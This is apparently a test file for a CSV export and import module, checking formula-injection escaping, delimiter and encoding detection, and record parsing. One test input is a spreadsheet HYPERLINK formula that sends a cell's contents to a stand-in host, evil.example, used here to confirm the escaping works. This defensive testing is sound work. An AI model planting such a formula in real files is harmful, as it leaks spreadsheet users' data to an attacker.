import fc from 'fast-check';
import { decode, detectDelimiter, recordsOf, type Delimiter } from '../../../../server/desk/files/csv/reading';
import { csvLines, plainCell, safeText, TimeCell } from '../../../../server/desk/files/csv/writing';
import { columnOf } from '../../../../server/desk/files/imports/columns';

async function rowsOf(text: string, delimiter: Delimiter = ','): Promise<(readonly string[])[]> {
  const rows: (readonly string[])[] = [];
  for await (const { cells } of recordsOf(text, delimiter)) rows.push(cells);
  return rows;
}

describe('formulas', () => {
  test.each([
    ['=HYPERLINK("https://evil.example?"&A1,"click")', `'=HYPERLINK("https://evil.example?"&A1,"click")`],
    ['+82 10-1234-5678', "'+82 10-1234-5678"],
    ['-1+1', "'-1+1"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
    [' =1', " '=1"],
    ['＝1', "'＝1"],
    ["'=1", "''=1"],
    ['a=1', 'a=1'],
    ['010-1234-5678', '010-1234-5678'],
    ["'tis", "'tis"],
    ['', ''],
  ])('%j becomes %j', (text, safe) => {
    expect(safeText(text)).toBe(safe);
    expect(plainCell(safe)).toBe(text);
  });

  test('numbers stay numbers, also below nothing', () => {
    expect(csvLines([[-3, 98_000, null, '-3', '']])).toBe(`-3,98000,,"'-3",\r\n`);
  });

  test('no cell that is written begins as a formula, and each comes back as it was', async () => {
    const cell = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom('=', '+', "'", '"', ',', '\n', '\r', '\t', '가', '@') }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1 }), async (rows) => {
        const table = rows.map((row) => ['x', ...row]);
        const text = csvLines(table);
        expect(await rowsOf(text)).toEqual(table);
        for (const written of table.flat().map(safeText)) expect(written).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
    );
  });
});

/** A file as a program reads it that was told of this delimiter; quotes count at the beginning of a cell only. */
function cellsBy(delimiter: string, text: string): string[] {
  return text.split(/\r\n|\r|\n/).flatMap((line) => {
    const cells: string[] = [];
    for (let rest: string | null = line; rest !== null;) {
      const quoted: string = /^"((?:[^"]|"")*)"/.exec(rest)?.[0] ?? '';
      const end = rest.indexOf(delimiter, quoted.length);
      const cell = end === -1 ? rest : rest.slice(0, end);
      cells.push(quoted.slice(1, -1).replaceAll('""', '"') + cell.slice(quoted.length));
      rest = end === -1 ? null : rest.slice(end + 1);
    }
    return cells;
  });
}

describe('a file that is opened with another delimiter', () => {
  test.each([
    ['x;=1+1;y', "x;'=1+1;y"],
    ['x\t@SUM(1)', "x\t'@SUM(1)"],
    ['x, +1', "x, '+1"],
    ['x\n=1', "x\n'=1"],
    ['x;"=1+1&"', `x;"'=1+1&"`],
    ["x;'=1", "x;''=1"],
    ['first line\n\nsecond line', 'first line\n\nsecond line'],
    ['ozonic 80; marine 40', 'ozonic 80; marine 40'],
  ])('%j becomes %j, and comes back', (text, safe) => {
    expect(safeText(text)).toBe(safe);
    expect(plainCell(safe)).toBe(text);
  });

  test('has no cell that begins as a formula, whatever people typed', () => {
    const cell = fc.string({
      unit: fc.constantFrom('=', '+', "'", '"', ',', ';', '\n', '\t', ' ', '-', '@', '1', 'a'),
    });
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 4 }), fc.constantFrom(',', ';', '\t'), (row, delimiter) => {
        for (const read of cellsBy(delimiter, csvLines([row]))) expect(read).not.toMatch(/^\s*[=+\-@]/);
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('what looks like a number and is none', () => {
  test.each([
    '03051',
    '601234567890123',
    '01012345678',
    '1234-56',
    '12/26',
    '1.5',
    '1E5',
    '12e10',
    'MAR-01',
    '1-Jan',
    'true',
    '3월 5일',
    '10:30',
    '오후 3시',
    '₩98,000',
    '50%',
    '０３０５１',
  ])('%j is text to every spreadsheet, and comes back', (text) => {
    expect(safeText(text)).toBe(`'${text}`);
    expect(plainCell(`'${text}`)).toBe(text);
  });

  test.each(['010-1234-5678', '02-123-4567', 'EA-7KQ2M9XWTB', 'UJ-RAIN-50', 'a@example.com', '101동 202호', '향 50ml'])(
    '%j is text anyway, and stays as it is',
    (text) => expect(safeText(text)).toBe(text),
  );

  test('is looked at in no time, however long it is', () => {
    const begun = performance.now();
    for (const text of [`1${' '.repeat(399)}x`, `1${','.repeat(398)}x`, '1'.repeat(100_000), ' '.repeat(100_000)]) {
      safeText(text);
    }
    expect(performance.now() - begun).toBeLessThan(500);
  });
});

test('a time may be taken for a time', () => {
  expect(csvLines([[new TimeCell('2026-11-23 12:00:00'), '2026-11-23']])).toBe(
    `"2026-11-23 12:00:00","'2026-11-23"\r\n`,
  );
});

describe('encodings', () => {
  // "이름,가격\n향" in CP949, and 뷁 which EUC-KR proper has not.
  const korean = Buffer.from([0xc0, 0xcc, 0xb8, 0xa7, 0x2c, 0xb0, 0xa1, 0xb0, 0xdd, 0x0a, 0xc7, 0xe2, 0x94, 0xee]);

  test.each([
    ['UTF-8', Buffer.from('이름,가격\n향'), 'utf-8', '이름,가격\n향'],
    ['UTF-8 with its mark', Buffer.from('\uFEFF이름'), 'utf-8', '이름'],
    ['CP949', korean, 'euc-kr', '이름,가격\n향뷁'],
    ['UTF-16 as Excel writes it', Buffer.from('\uFEFF이름\t가격', 'utf16le'), 'utf-16le', '이름\t가격'],
    ['plain ASCII', Buffer.from('sku,price'), 'utf-8', 'sku,price'],
  ])('%s is read', (_name, bytes, encoding, text) => {
    expect(decode(bytes)).toEqual({ encoding, text });
  });

  test('UTF-8 with a bad byte is not taken for EUC-KR: the line is named', () => {
    const bytes = Buffer.concat([
      Buffer.from('이름,가격\n비 온 뒤,98000\n백자'),
      Buffer.from([0xff]),
      Buffer.from(',1\n'),
    ]);
    expect(() => decode(bytes)).toThrow(expect.objectContaining({ code: 'encoding', values: { line: 3 } }) as Error);
  });

  test.each([
    ['nothing', Buffer.alloc(0), 'empty'],
    ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0xff, 0xff]), 'encoding'],
    ['zeros', Buffer.alloc(100), 'binary'],
  ])('%s is refused', (_name, bytes, code) => {
    expect(() => decode(bytes)).toThrow(expect.objectContaining({ code }) as Error);
  });
});

describe('records', () => {
  test('know the line they begin in, whatever stands between quotes', async () => {
    const records = [];
    for await (const { line, cells } of recordsOf('a,b\r\n"1\n1\n1",2\r\n\r\n3,"""4"""\n', ','))
      records.push([line, ...cells]);
    expect(records).toEqual([
      [1, 'a', 'b'],
      [2, '1\n1\n1', '2'],
      [6, '3', '"4"'],
    ]);
  });

  test.each([
    ['a,b\n1,"2\n3,4\n', 'quoteOpen'],
    ['a,b\n1,2"3\n', 'quotes'],
    ['a,b\n1,"2"3\n', 'quotes'],
    [`a\n"${'x'.repeat(250_000)}"`, 'recordLong'],
  ])('%j is refused', async (text, code) => {
    await expect(rowsOf(text)).rejects.toMatchObject({ code });
  });

  test.each([
    ['sku,price\n', ','],
    ['SKU;가격\n', ';'],
    ['SKU\t가격\n', '\t'],
    ['"sku";"price, with a comma"\n', ';'],
    ['nothing known', ','],
  ])('the delimiter of %j is found', async (text, delimiter) => {
    expect(await detectDelimiter(text, (header) => columnOf(header) !== null)).toBe(delimiter);
  });
});
